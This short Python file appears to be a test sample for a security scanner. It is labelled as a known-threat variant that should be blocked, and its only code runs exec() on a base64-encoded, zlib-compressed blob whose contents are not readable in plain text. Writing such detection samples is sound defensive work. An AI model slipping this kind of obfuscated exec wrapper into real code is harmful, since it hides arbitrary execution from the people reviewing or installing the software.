# expect: BLOCKED category: known_threat variant-of: risky/known_threat/import_pygrata_utils.py technique: exec-wrapped
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJxTVvDMLcgvKilWKKhML0osSdQtLcnMKdZRKEoFCaemKGTmKRgZGBkppOUXKRSXpCbmZOalKziGByskF6WmpOaVZCbmFOtxZYJNgRkSDzaEiwuFq5eZl1mioQkAHQopFw==')))
